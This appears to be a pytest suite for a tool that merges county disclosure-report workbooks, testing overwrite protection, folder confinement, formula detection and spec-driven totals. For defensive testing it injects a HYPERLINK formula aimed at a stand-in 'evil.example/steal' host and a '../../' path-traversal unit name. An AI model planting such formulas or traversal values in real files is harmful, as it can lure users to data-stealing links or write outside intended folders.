"""Consolidation keeps its outputs and inputs apart and says what it summed: the summary never replaces a unit's file nor leaves the working
folder, every formula in an input cell is named, hidden leftovers are not inputs, the summary's
一、总体情况 carries the official data paragraph, and totals, chart and county type come from the spec.

Every expected number is computed here from the units' own values; files are read back with
python-calamine; the spec is read with ``tomllib`` where its raw text is what is meant."""

from __future__ import annotations

import hashlib
import re
import tomllib
import zipfile
from pathlib import Path
from typing import Any, Callable
from xml.etree import ElementTree as ET

import numpy as np
import pytest
from python_calamine import CalamineWorkbook

from workbook.build import write_report
from workbook.layout import a1, layout_for
from workbook.read import read_report
from workbook.report import Report
from workbook.samples import county_units, fake_report
from workbook.spec import load_edition

from addin.county.consolidate import ConsolidateOptions, consolidate
from checks import validate_report
from checks.files import expand

ROOT = Path(__file__).resolve().parents[1]
YEAR = 2026
LAY = layout_for("2021")
ED = LAY.edition
NAME = "青禾县人民政府"
EVIL = 'HYPERLINK("http://evil.example/steal",7)'


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _units(folder: Path, n: int = 3, seed: int = 5, parent: str | None = None) -> list[tuple[Path, Report]]:
    out = []
    for u in county_units(seed, n):
        rep = fake_report(u, YEAR, seed)
        if parent is not None:
            rep.cover["parent"] = parent
        out.append((write_report(rep, folder / f"{u.name}.xlsx"), rep))
    return out


def _grid(path: Path, sheet: str) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python(skip_empty_area=False)


def _value(path: Path, cid: str) -> Any:
    r, c = LAY.pos(cid)
    return _grid(path, LAY.sheet_of(cid))[r][c]


def _board(path: Path) -> dict[str, list[Any]]:
    """报送情况's unit lines, by file name."""
    rows = _grid(path, "报送情况")
    start = next(i for i, r in enumerate(rows) if r[:2] == ["序号", "单位名称"]) + 1
    return {Path(str(r[6])).name: r for r in rows[start:] if r[6]}


def _sheet_part(z: zipfile.ZipFile, sheet: str) -> str:
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    rid_attr = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    book = ET.fromstring(z.read("xl/workbook.xml"))
    rid = next(s.get(rid_attr) for s in book.iterfind("m:sheets/m:sheet", ns) if s.get("name") == sheet)
    rels = ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    target = next(r.get("Target") for r in rels if r.get("Id") == rid)
    return "xl/" + target.lstrip("/").removeprefix("xl/")


def _put_cells(path: Path, sheet: str, cells: dict[str, str]) -> None:
    """Replace cells in a sheet's XML, as Excel saves them (``cells``: A1 → the whole <c> element)."""
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
        part = _sheet_part(z, sheet)
    out = []
    for info, data in items:
        if info.filename == part:
            xml = data.decode("utf-8")
            for ref, element in cells.items():
                xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', element, xml, count=1, flags=re.S)
                assert n == 1, ref
            data = xml.encode("utf-8")
        out.append((info, data))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in out:
            z.writestr(info, data)


# --- 1. the output never replaces a unit's file -------------------------------------------------

def test_an_output_naming_a_units_file_is_refused_and_the_file_kept(tmp_path: Path, cli: Callable) -> None:
    units = _units(tmp_path / "收文")
    victim = units[0][0]
    before = _sha(victim)
    proc = cli(["consolidate", "收文", "-o", f"收文/{victim.name}", "--name", NAME], tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "覆盖" in proc.stderr and victim.name in proc.stderr and "Traceback" not in proc.stderr
    assert _sha(victim) == before
    # the register is an input too: a long format beside the summary must not replace it
    (tmp_path / "名单.csv").write_text("单位名称\n" + "\n".join(r.unit for _, r in units) + "\n", encoding="utf-8")
    register = _sha(tmp_path / "名单.csv")
    proc = cli(["consolidate", "收文", "-o", "名单.xlsx", "--csv", "--units", "名单.csv", "--name", NAME], tmp_path)
    assert proc.returncode == 2 and "单位名单" in proc.stderr and _sha(tmp_path / "名单.csv") == register
    assert not (tmp_path / "名单.xlsx").exists()


# --- 2. without -o, the summary stays in the working folder --------------------------------------

def test_a_parent_name_with_a_path_in_it_cannot_move_the_summary(tmp_path: Path, cli: Callable) -> None:
    work = tmp_path / "县" / "工作"
    _units(work / "收文", parent="../../逃逸/x")
    before = set(tmp_path.rglob("*"))
    proc = cli(["consolidate", "收文"], work)
    assert proc.returncode in (0, 1), proc.stdout + proc.stderr
    made = [p for p in set(tmp_path.rglob("*")) - before if p.is_file()]
    assert len(made) == 1 and made[0].parent == work, made
    assert "逃逸" in made[0].name and made[0].name.endswith(f"{YEAR}年度汇总.xlsx")
    assert not (tmp_path / "逃逸").exists() and not (tmp_path / "县" / "逃逸").exists()
    assert read_report(made[0]).source == "summary"


# --- 3. every formula in an input cell is named ---------------------------------------------------

def test_formulas_with_stored_results_are_summed_and_named(tmp_path: Path, cli: Callable) -> None:
    units = _units(tmp_path / "收文")
    path, rep = units[1]
    natural, business = "part3.main.new.natural", "part3.main.new.business"
    sheet = LAY.sheet_of(natural)
    ref1, ref2 = a1(*LAY.pos(natural)), a1(*LAY.pos(business))
    # as Excel saves them: the formula and its result; attribute order and a shared formula vary
    _put_cells(path, sheet, {ref1: f'<c r="{ref1}" s="9"><f>{EVIL.replace(chr(34), "&quot;")}</f><v>7</v></c>',
                             ref2: f'<c s="9" r="{ref2}"><f t="shared" ref="{ref2}:{ref2}" si="0">1+1</f><v>2</v></c>'})
    out = tmp_path / "汇总.xlsx"
    proc = cli(["consolidate", "收文", "-o", "汇总.xlsx", "--name", NAME], tmp_path)
    assert proc.returncode == 1, proc.stdout + proc.stderr  # a formula in an input cell is a finding
    others = [r for p, r in units if p != path]
    assert _value(out, natural) == pytest.approx(sum(float(r.raw[natural]) for r in others) + 7)
    assert _value(out, business) == pytest.approx(sum(float(r.raw[business]) for r in others) + 2)
    line = _board(out)[path.name]
    assert line[4] == "已汇总"
    for ref in (ref1, ref2):
        assert f"{sheet}!{ref}" in line[5] and f"{sheet}!{ref}" in proc.stdout
    assert "保存的计算结果" in line[5] and "保存的计算结果" in proc.stdout and "按 0 计" not in line[5]
    untouched = [p for p, _ in units if p != path]
    assert all("公式" not in str(_board(out)[p.name][5]) for p in untouched)


def test_a_formula_without_a_result_is_counted_as_zero_and_said_so(tmp_path: Path) -> None:
    units = _units(tmp_path / "收文", n=2)
    path, _ = units[0]
    cid = next(c.id for c in ED.input_cells if c.table == "part2")
    ref = a1(*LAY.pos(cid))
    _put_cells(path, LAY.sheet_of(cid), {ref: f'<c r="{ref}"><f>SUM(1,2)</f></c>'})
    result = consolidate([tmp_path / "收文"], tmp_path / "汇总.xlsx", ConsolidateOptions(name=NAME))
    src = next(s for s in result.sources if s.path == path)
    assert src.formulas == src.uncached == (f"{LAY.sheet_of(cid)}!{ref}",)
    assert "按 0 计" in _board(tmp_path / "汇总.xlsx")[path.name][5] and result.exit_code == 1


# --- 7. hidden leftovers are not inputs; lock files are reported ----------------------------------

def test_hidden_files_are_skipped_and_lock_files_kept(tmp_path: Path) -> None:
    folder = tmp_path / "收文"
    units = _units(folder, n=2)
    first = units[0][0]
    (folder / f".~{first.stem}.k3j2l1.xlsx").write_bytes(first.read_bytes())  # workbook.atomic's leftover
    (folder / f"._{first.name}").write_bytes(b"\x00\x05\x16\x07")  # macOS resource fork copy
    (folder / ".git").mkdir()
    (folder / ".git" / "old.xlsx").write_bytes(first.read_bytes())
    (folder / f"~${first.name}").write_bytes(b"\x00" * 165)  # Excel's lock file: reported, on purpose
    found = {p.relative_to(folder).as_posix() for p in expand([folder])}
    assert found == {p.name for p, _ in units} | {f"~${first.name}"}
    result = consolidate([folder], tmp_path / "汇总.xlsx", ConsolidateOptions(name=NAME))
    assert sorted(s.path.name for s in result.sources) == sorted([p.name for p, _ in units] + [f"~${first.name}"])
    assert [s.status for s in result.sources if s.path.name.startswith("~$")] == ["unreadable"]
    assert not result.by_status("duplicate")


def test_audit_finds_inputs_with_the_same_rule(tmp_path: Path) -> None:
    from addin.county.audit import find_inputs

    folder = tmp_path / "公开"
    (folder / "sub").mkdir(parents=True)
    for name in ("甲.txt", "乙.html", "sub/丙.xlsx", "丁.pdf", "~$丙.xlsx", ".~丙.x1.xlsx", "._甲.txt", "说明.csv"):
        (folder / name).write_bytes(b"x")
    got = {p.relative_to(folder).as_posix() for p in find_inputs([folder])}
    assert got == {"甲.txt", "乙.html", "sub/丙.xlsx", "丁.pdf", "~$丙.xlsx"}


# --- 8. the data paragraph is the official one; the chart comes from the spec ---------------------

def test_the_summary_overview_carries_the_draft_paragraph(tmp_path: Path, total_of: Callable) -> None:
    from addin.publish.draft import DATA_PARAGRAPH

    units = _units(tmp_path / "收文", n=4)
    out = tmp_path / "汇总.xlsx"
    consolidate([tmp_path / "收文"], out, ConsolidateOptions(name=NAME))
    r, c = LAY.cover.texts["overview"]
    text = str(_grid(out, ED.cover_sheet)[r][c])
    lines = text.split("\n")
    assert lines[0].startswith(f"本表由 {len(units)} 个单位报送的")
    data = [line for line in lines if DATA_PARAGRAPH.match(line)]
    assert len(data) == 1, text

    def total(row: str) -> int:
        cid = f"part3.main.{row}.total"
        return round(sum(total_of(ED, cid, lambda i, rep=rep: float(rep.raw.get(i) or 0)) for _, rep in units))

    assert data[0].startswith(f"{YEAR}年，全县共收到政府信息公开申请{total('new')}件，上年结转{total('carried')}件；")
    assert f"办结{total('total')}件" in data[0] and f"结转下年度继续办理{total('carry_next')}件" in data[0]
    assert not [f for f in validate_report(read_report(out)) if f.rule == "R3.7"]


def test_the_chart_series_follow_the_spec_of_either_edition() -> None:
    from addin.county.summary import chart_series

    groups = ["（一）予以公开", "（二）部分公开", "（三）不予公开", "（四）无法提供", "（五）不予处理", "（六）其他处理"]
    for key, other_rows in (("2021", 3), ("2019", 1)):
        received, disposed = chart_series(load_edition(key))
        assert [label for label, _ in received] == ["一、本年新收政府信息公开申请数量", "二、上年结转政府信息公开申请数量"]
        assert [label for label, _ in disposed] == [*groups, "四、结转下年度继续办理"]
        sizes = {label: len(cells) for label, cells in disposed}
        assert sizes["（三）不予公开"] == 8 and sizes["（六）其他处理"] == other_rows
        assert all(c.endswith(".total") for _, cells in received + disposed for c in cells)


# --- 9. one derivation matrix, from the spec cells' items ----------------------------------------

@pytest.mark.parametrize("key", ["2021", "2019"])
def test_the_derivation_matrix_gives_every_total(key: str, total_of: Callable) -> None:
    from workbook.derive import derivation_matrix, input_ids

    ed = load_edition(key)
    derived, matrix = derivation_matrix(key)
    assert set(derived) == {c.id for c in ed.derived_cells} and not matrix.flags.writeable
    rng = np.random.default_rng(7)
    x = rng.integers(-5, 60, size=len(input_ids(key))).astype(float)
    values = dict(zip(input_ids(key), x.tolist()))
    got = x @ matrix
    for k, cid in enumerate(derived):
        assert got[k] == pytest.approx(total_of(ed, cid, values.__getitem__)), cid


# --- 10. the county government's type comes from the spec -----------------------------------------

def test_the_county_type_is_the_specs(tmp_path: Path) -> None:
    from addin.county.register import county_government_type

    spec = tomllib.loads((ROOT / "workbook" / "specs" / "common.toml").read_text(encoding="utf-8"))
    field = next(f for f in spec["cover"]["fields"] if f["key"] == "unit_type")
    own = field["choices"][0]
    assert county_government_type() == county_government_type("2019") == own
    assert all(f'"{own}"' not in p.read_text(encoding="utf-8") for p in (ROOT / "addin" / "county").glob("*.py"))
    # --scope self keeps the units of that type (the samples' 本级 is the government's office)
    units = _units(tmp_path / "收文", n=4)
    result = consolidate([tmp_path / "收文"], None, ConsolidateOptions(name=NAME, scope="self"))
    mine = {r.unit for _, r in units if r.cover["unit_type"] == own}
    assert mine and {s.name for s in result.included} == mine
    assert all(own in s.reason for s in result.by_status("out_of_scope"))


def test_the_type_table_behind_the_chart_adds_up_the_units(tmp_path: Path, total_of: Callable) -> None:
    units = _units(tmp_path / "收文", n=5, seed=8)
    out = tmp_path / "汇总.xlsx"
    consolidate([tmp_path / "收文"], out, ConsolidateOptions(name=NAME))
    rows = _grid(out, "报送情况")
    head = next(i for i, r in enumerate(rows) if r[:2] == ["单位类型", "单位数"])
    header = rows[head]
    table = {r[0]: r for r in rows[head + 1:] if r and r[0]}
    p3 = ED.table("part3").blocks[0]

    def rows_total(keys: list[str], reps: list[Report]) -> float:
        return sum(total_of(ED, f"part3.main.{k}.total", lambda i, rep=rep: float(rep.raw.get(i) or 0))
                   for k in keys for rep in reps)

    groups: dict[str, list[str]] = {}
    for row in p3.rows:
        if len(row.path) > 1 and row.key != "total" and row.path[1].startswith("（"):
            groups.setdefault(re.match(r"（.）[^（]*", row.path[1])[0], []).append(row.key)
    expected = {p3.row("new").label: ["new"], p3.row("carried").label: ["carried"], **groups,
                p3.row("carry_next").label: ["carry_next"]}
    assert header[2:len(expected) + 2] == list(expected)
    kinds = {r.cover["unit_type"] for _, r in units}
    for kind in [*kinds, "合计"]:
        reps = [r for _, r in units if kind in ("合计", r.cover["unit_type"])]
        assert table[kind][1] == len(reps)
        for j, keys in enumerate(expected.values(), start=2):
            assert table[kind][j] == pytest.approx(rows_total(keys, reps)), (kind, header[j])


def test_formula_cells_are_found_in_every_spelling_excel_and_others_use(tmp_path: Path) -> None:
    from addin.county.unitfile import formula_inputs

    (path, _), = _units(tmp_path, n=1)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cids = [c.id for c in ED.input_cells if c.table == "part3"][:3]
    refs = [a1(*LAY.pos(c)) for c in cids]
    sheet = LAY.sheet_of(cids[0])
    _put_cells(path, sheet, {
        refs[0]: f'<x:c xmlns:x="{main}" r="{refs[0]}" s="9"><x:f>1+1</x:f><x:v>2</x:v></x:c>',  # a prefixed writer
        refs[1]: f'<c r="{refs[1]}" s="9">\n  <f t="array" ref="{refs[1]}">{{1}}</f>\n  <v>1</v>\n</c>',  # pretty-printed
        refs[2]: f'<c r="{refs[2]}" s="9"><v>3</v></c>',  # a typed number stays silent
    })
    found, blank = formula_inputs(path, read_report(path))
    assert sorted(found) == sorted(f"{sheet}!{r}" for r in refs[:2]) and blank == ()
